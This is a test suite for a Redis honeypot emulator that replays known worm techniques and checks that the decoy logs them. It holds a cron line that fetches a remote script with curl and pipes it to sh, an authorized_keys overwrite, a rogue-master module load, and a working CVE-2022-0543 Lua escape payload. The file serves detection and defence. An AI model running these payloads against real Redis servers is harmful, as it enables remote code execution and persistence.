import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { mutate, randomOf } from '../fixtures/mutation.ts';
import { placeOf } from '../fixtures/visitor.ts';
import { View } from '../world/files/view.ts';
import { decoy } from './decoy.ts';

const command = (...args: string[]): string =>
  `*${args.length}\r\n${args.map((arg) => `$${Buffer.byteLength(arg)}\r\n${arg}\r\n`).join('')}`;

const text = async (answer: Promise<Buffer>): Promise<string> => (await answer).toString('latin1');

describe('the Redis decoy', () => {
  it('writes a crontab by the way that worms take, and keeps the file as it is', async () => {
    const place = placeOf(decoy);
    const visitor = place.connect();
    const line = '\n\n*/1 * * * * curl -fsSL http://198.51.100.7/a.sh | sh\n\n';
    for (const words of [
      ['CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'],
      ['CONFIG', 'SET', 'dbfilename', 'root'],
      ['CONFIG', 'SET', 'rdbcompression', 'no'],
      ['FLUSHALL'],
      ['SET', 'x', line],
      ['SAVE'],
    ])
      assert.equal(await text(visitor.ask(command(...words))), '+OK\r\n');
    const saved = place.events.find(({ type }) => type === 'save')!;
    assert.deepEqual(saved.attack, ['T1053.003']);
    assert.deepEqual(saved.texts, [line]);
    assert.equal(saved.data!.path, '/var/spool/cron/crontabs/root');
    const file = Buffer.from(new View(place.world.files).read('/var/spool/cron/crontabs/root'));
    assert.deepEqual(saved.artefacts, [{ name: '/var/spool/cron/crontabs/root', content: file }]);
    assert.equal(file.subarray(0, 9).toString(), 'REDIS0010');
    assert.ok(file.includes(line));
    const set = place.events.find(({ type, data }) => type === 'command' && data!.command === 'SET')!;
    assert.deepEqual(set.texts, ['x', line]);
  });

  it('takes a key into authorized_keys for what it is', async () => {
    const place = placeOf(decoy);
    new View(place.world.files).mkdir('/root/.ssh/sub');
    const visitor = place.connect();
    await visitor.ask(command('CONFIG', 'SET', 'dir', '/root/.ssh/', 'dbfilename', 'authorized_keys'));
    await visitor.ask(command('BGSAVE'));
    assert.deepEqual(place.events.find(({ type }) => type === 'save')!.attack, ['T1098.004']);
  });

  it('says that it follows a master which it never asks, and lets load what that would have left', async () => {
    const place = placeOf(decoy);
    const visitor = place.connect();
    assert.equal(await text(visitor.ask(command('SLAVEOF', '203.0.113.5', '21000'))), '+OK\r\n');
    await visitor.ask(command('CONFIG', 'SET', 'dbfilename', 'exp.so'));
    assert.match(
      await text(visitor.ask(command('INFO', 'replication'))),
      /role:slave[\s\S]*master_link_status:down/,
    );
    assert.match(await text(visitor.ask(command('SET', 'a', 'b'))), /^-READONLY /);
    assert.match(
      await text(visitor.ask(command('MODULE', 'LOAD', './other.so'))),
      /^-ERR Error loading the extension/,
    );
    assert.equal(await text(visitor.ask(command('MODULE', 'LOAD', './exp.so'))), '+OK\r\n');
    assert.match(await text(visitor.ask(command('system.exec', 'id'))), /^\$\d+\r\nuid=0\(root\)/);
    assert.match(await text(visitor.ask(command('MODULE', 'LIST'))), /system/);
    assert.equal(await text(visitor.ask(command('MODULE', 'UNLOAD', 'system'))), '+OK\r\n');
    assert.match(await text(visitor.ask(command('system.exec', 'id'))), /^-ERR unknown command/);
    const types = place.events.map(({ type }) => type);
    for (const type of ['replicaof', 'module.load', 'module.exec', 'module.unload'])
      assert.ok(types.includes(type), type);
    const follow = place.events.find(({ type }) => type === 'replicaof')!;
    assert.deepEqual(follow.notes, [
      { kind: 'connect', tool: 'redis-server', host: '203.0.113.5', port: 21_000 },
    ]);
  });

  it('runs in the world what CVE-2022-0543 runs', async () => {
    const place = placeOf(decoy);
    const script =
      'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res';
    assert.match(await text(place.connect().ask(command('EVAL', script, '0'))), /^\$\d+\r\nuid=0\(root\)/);
    const told = place.events.find(({ type }) => type === 'eval')!;
    assert.deepEqual(told.commands, ['id']);
    assert.equal(told.severity, 'critical');
  });

  it('keeps what a visitor set for its next connection, and passwords that it was told', async () => {
    const place = placeOf(decoy);
    await place.connect().ask(command('SET', 'mark', 'x') + command('CONFIG', 'SET', 'requirepass', 'mine'));
    const second = place.connect();
    assert.equal(await text(second.ask(command('GET', 'mark'))), '-NOAUTH Authentication required.\r\n');
    assert.match(await text(second.ask(command('AUTH', 'guess'))), /^-WRONGPASS/);
    assert.equal(
      await text(second.ask(command('AUTH', 'mine') + command('GET', 'mark'))),
      '+OK\r\n$1\r\nx\r\n',
    );
    const passwords = place.events.filter(({ type }) => type === 'auth').map(({ data }) => data!.password);
    assert.deepEqual(passwords, ['guess', 'mine']);
  });

  it('shows two personas of which nothing is the same', async () => {
    const [one, other] = await Promise.all(
      ['one', 'other'].map(async (seed) => {
        const visitor = placeOf(decoy, seed).connect();
        return [await text(visitor.ask('INFO\r\n')), await text(visitor.ask('KEYS *\r\n'))];
      }),
    );
    for (const field of ['run_id', 'master_replid', 'process_id', 'uptime_in_seconds']) {
      const value = (info: string): string => new RegExp(`^${field}:(.*)\r$`, 'm').exec(info)![1]!;
      assert.notEqual(value(one![0]!), value(other![0]!), field);
    }
    const keys = new Set(one![1]!.split('\r\n').filter((line) => !/^[$*]/.test(line) && line !== ''));
    assert.deepEqual(
      other![1]!.split('\r\n').filter((line) => keys.has(line)),
      [],
    );
  });

  it('delivers messages and waits for keys between the connections of a source', async () => {
    const place = placeOf(decoy);
    const [one, other] = [place.connect(), place.connect()];
    await one.ask(command('SUBSCRIBE', 'news'));
    const [message] = await Promise.all([one.ask(''), other.ask(command('PUBLISH', 'news', 'hi'))]);
    assert.equal(message.toString(), '*3\r\n$7\r\nmessage\r\n$4\r\nnews\r\n$2\r\nhi\r\n');
    const waiting = place.connect();
    assert.equal(await text(waiting.ask(command('BLPOP', 'work', '5'), 50)), '');
    const [job] = await Promise.all([waiting.ask(''), other.ask(command('RPUSH', 'work', 'a', 'b'))]);
    assert.equal(job.toString(), '*2\r\n$4\r\nwork\r\n$1\r\na\r\n');
    assert.equal(await text(other.ask(command('LLEN', 'work'))), ':1\r\n');
  });

  it('gives entries of streams to those that wait for them, and an error where their group is gone', async () => {
    const place = placeOf(decoy);
    const [reader, member, writer] = [place.connect(), place.connect(), place.connect()];
    await writer.ask(command('XGROUP', 'CREATE', 'jobs', 'g', '$', 'MKSTREAM'));
    assert.equal(await text(reader.ask(command('XREAD', 'BLOCK', '0', 'STREAMS', 'jobs', '$'), 50)), '');
    const wait = command('XREADGROUP', 'GROUP', 'g', 'c', 'BLOCK', '0', 'STREAMS', 'jobs', '>');
    assert.equal(await text(member.ask(wait, 50)), '');
    const entry = '*1\r\n*2\r\n$4\r\njobs\r\n*1\r\n*2\r\n$3\r\n1-1\r\n*2\r\n$1\r\na\r\n$1\r\nb\r\n';
    const [one, other] = await Promise.all([
      text(reader.ask('')),
      text(member.ask('')),
      writer.ask(command('XADD', 'jobs', '1-1', 'a', 'b')),
    ]);
    assert.deepEqual([one, other], [entry, entry]);
    assert.equal(await text(member.ask(wait, 50)), '');
    const [end] = await Promise.all([
      text(member.ask('')),
      writer.ask(command('XGROUP', 'DESTROY', 'jobs', 'g')),
    ]);
    assert.match(end, /^-NOGROUP the consumer group this client was blocked on no longer exists/);
  });

  it('keeps of streams no more than of other values, and answers no stream without end', async () => {
    const visitor = placeOf(decoy).connect();
    const add = command('XADD', 's', '*', 'f', 'x'.repeat(300)).repeat(500);
    const answers = [];
    for (let index = 0; index < 30; index += 1) answers.push(await text(visitor.ask(add)));
    // What is held is counted again now and then, and there may be room for some of them.
    assert.match(answers.at(-1)!, /-OOM command not allowed/);
    assert.ok(Number((await text(visitor.ask(command('XLEN', 's')))).slice(1)) < 12_000);
    const again = [...Array.from({ length: 3000 }, () => 's'), ...Array.from({ length: 3000 }, () => '0')];
    assert.match(await text(visitor.ask(command('XREAD', 'STREAMS', ...again))), /^-OOM command not allowed/);
  });

  it('answers as a master to who replicates from it', async () => {
    const answer = await text(
      placeOf(decoy)
        .connect()
        .ask(command('PSYNC', '?', '-1')),
    );
    assert.match(answer, /^\+FULLRESYNC [0-9a-f]{40} 0\r\n\$\d+\r\nREDIS0010/);
  });

  it('gives no more memory than there is', async () => {
    const visitor = placeOf(decoy).connect();
    const chunk = command('APPEND', 'big', 'x'.repeat(900_000));
    const answers = [];
    for (let index = 0; index < 8; index += 1) answers.push(await text(visitor.ask(chunk)));
    assert.match(answers.at(-1)!, /^-OOM command not allowed/);
    assert.match(await text(visitor.ask(command('SETRANGE', 'big', '400000000', 'x'))), /^-OOM/);
    assert.equal(await text(visitor.ask(command('DEL', 'big'))), ':1\r\n');
    await new Promise((resolve) => setTimeout(resolve, 110));
    assert.equal(await text(visitor.ask(command('SET', 'small', 'x'))), '+OK\r\n');
  });

  it('ends a connection whose one reply would be beyond all measure', async () => {
    const visitor = placeOf(decoy).connect();
    await visitor.ask(command('SET', 'big', 'x'.repeat(1_000_000)));
    await visitor.ask(command('MULTI') + command('GET', 'big').repeat(500));
    await visitor.ask(command('EXEC'));
    assert.ok(visitor.isOver);
  });

  it('says at once that it is connecting to a master far away', async () => {
    const visitor = placeOf(decoy).connect();
    await visitor.ask(command('SLAVEOF', '203.0.113.5', '21000'));
    assert.match(await text(visitor.ask(command('ROLE'))), /\r\nconnecting\r\n/);
    await visitor.ask(command('SLAVEOF', '127.0.0.1', '1'));
    assert.match(await text(visitor.ask(command('ROLE'))), /\r\nconnect\r\n/);
  });

  it('records the code of libraries of functions, and what they are called with', async () => {
    const place = placeOf(decoy);
    const visitor = place.connect();
    const code =
      "#!lua name=lib\nredis.register_function('f', function(keys, args) return redis.call('set', keys[1], args[1]) end)";
    assert.equal(await text(visitor.ask(command('FUNCTION', 'LOAD', code))), '$3\r\nlib\r\n');
    assert.equal(await text(visitor.ask(command('FCALL', 'f', '1', 'k', 'v'))), '+OK\r\n');
    assert.equal(await text(visitor.ask(command('GET', 'k'))), '$1\r\nv\r\n');
    const [loaded, called] = place.events.filter(({ type }) => type === 'eval');
    assert.deepEqual(loaded!.texts, [code]);
    assert.deepEqual(called!.texts, [code, 'k', 'v']);
    await visitor.ask(command('SAVE'));
    const saved = place.events.find(({ type }) => type === 'save')!;
    assert.ok(Buffer.from(saved.artefacts![0]!.content).includes('register_'));
  });

  it('has memory for so many libraries of functions', async () => {
    const visitor = placeOf(decoy).connect();
    const load = (index: number): Promise<string> =>
      text(
        visitor.ask(
          command(
            'FUNCTION',
            'LOAD',
            `#!lua name=l${index}\nlocal s = 'a' for i = 1, 19 do s = s .. s end redis.register_function{function_name='f${index}', description=s, callback=function() end}`,
          ),
        ),
      );
    const answers: string[] = [];
    for (let index = 0; index < 20; index += 1) answers.push(await load(index));
    assert.match(answers.at(-1)!, /^-OOM /);
    await visitor.ask(command('FUNCTION', 'FLUSH'));
    assert.equal(await load(1), '$2\r\nl1\r\n');
  });

  it('compares texts only where a table of both is not too large', async () => {
    const visitor = placeOf(decoy).connect();
    await visitor.ask(command('SET', 'a', 'x'.repeat(4000)) + command('SET', 'b', 'y'.repeat(4000)));
    assert.match(
      await text(visitor.ask(command('LCS', 'a', 'b'))),
      /^-ERR Insufficient memory, failed allocating transient memory for LCS/,
    );
    assert.equal(
      await text(visitor.ask(command('SET', 'c', 'xyx') + command('LCS', 'a', 'c', 'LEN'))),
      '+OK\r\n:2\r\n',
    );
  });

  it('makes fifty events of a flood, and counts the others', async () => {
    const place = placeOf(decoy);
    await place.connect().ask(command('SET', 'a', 'b').repeat(900));
    const events = place.events.filter(({ type }) => type === 'command');
    assert.ok(events.length <= 60, String(events.length));
    const more = events.reduce((sum, { data }) => sum + Number(data!.more ?? 0), 0);
    assert.equal(events.length + more, 900);
  });

  it('survives what is no conversation', { timeout: 60_000 }, async () => {
    const random = randomOf(20_260);
    const seeds = [
      command('SET', 'a', 'b') + command('GET', 'a'),
      command('ZADD', 'z', '1', 'a', '2', 'b') + command('ZRANGE', 'z', '0', '-1', 'WITHSCORES'),
      command(
        'EVAL',
        "local x = {1,2} for i,v in ipairs(x) do redis.call('set',KEYS[i],v) end return #x",
        '2',
        'a',
        'b',
      ),
      `MULTI\r\nSET a "x y"\r\nHSET h f v\r\nEXEC\r\n${command('SCAN', '0', 'MATCH', '[a-z]*')}`,
      command('XADD', 's', 'MAXLEN', '~', '9', '1-*', 'f', 'v') +
        command('XGROUP', 'CREATE', 's', 'g', '0') +
        command('XREADGROUP', 'GROUP', 'g', 'c', 'STREAMS', 's', '>') +
        command('XAUTOCLAIM', 's', 'g', 'd', '0', '-', 'COUNT', '5'),
      command('CONFIG', 'SET', 'dir', '/tmp') +
        command('SORT', 'l', 'BY', 'w_*') +
        command('LPOS', 'l', 'x', 'RANK', '-1'),
    ];
    const place = placeOf(decoy);
    for (let round = 0; round < 300; round += 1) {
      const visitor = place.connect();
      const seed = Buffer.from(seeds[round % seeds.length]!);
      visitor.stream.write(mutate(seed, random));
      if (round % 20 === 0) await visitor.ask('', 20);
      visitor.stream.end();
    }
    const answer = await text(place.connect().ask('*1\r\n$4\r\nTIME\r\n'));
    assert.match(answer, /^(?:\*2|-NOAUTH)/);
  });
});
